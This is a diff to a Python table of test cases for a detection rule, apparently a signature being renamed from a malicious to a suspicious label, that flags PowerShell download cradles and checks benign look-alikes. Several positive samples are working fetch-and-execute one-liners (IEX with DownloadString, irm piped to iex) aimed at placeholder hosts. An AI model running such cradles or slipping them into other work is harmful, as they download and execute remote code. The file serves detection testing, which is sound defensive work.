@@ -320,32 +320,32 @@ CASES: list[Case] = [
     ),
     # --- PowerShell ----------------------------------------------------------------------------------
     Case(
-        "MAL_PS_IEX_Download_Cradle_Nov26",
+        "SUSP_PS_IEX_Download_Cradle_Nov26",
         True,
         b"IEX (New-Object Net.WebClient).DownloadString('https://teams-update.invalid/a.ps1')",
         "the textbook download cradle",
     ),
     Case(
-        "MAL_PS_IEX_Download_Cradle_Nov26",
+        "SUSP_PS_IEX_Download_Cradle_Nov26",
         True,
         "irm https://x.invalid/p | iex".encode("utf-16-le"),
         "short aliases, in a UTF-16LE file as PowerShell ISE saves them",
     ),
     Case(
-        "MAL_PS_IEX_Download_Cradle_Nov26",
+        "SUSP_PS_IEX_Download_Cradle_Nov26",
         False,
         b"Invoke-WebRequest -Uri https://data.example/report.csv -OutFile report.csv\n"
         b"Import-Csv report.csv | Where-Object { $_.Index -gt 3 }\n",
         "downloads a CSV and parses it; nothing is executed ('Index' is not 'iex')",
     ),
     Case(
-        "MAL_PS_IEX_Download_Cradle_Nov26",
+        "SUSP_PS_IEX_Download_Cradle_Nov26",
         False,
         b"KEYWORDS = ('gci', 'iex', 'iwr', 'irm', 'Invoke-WebRequest', 'Invoke-Expression')\n",
         "a syntax highlighter's alias table names both words but runs nothing",
     ),
     Case(
-        "MAL_PS_IEX_Download_Cradle_Nov26",
+        "SUSP_PS_IEX_Download_Cradle_Nov26",
         True,
         b"$u='https://x.invalid/a';iex(iwr $u -UseBasicParsing)",
         "IEX wrapping Invoke-WebRequest",
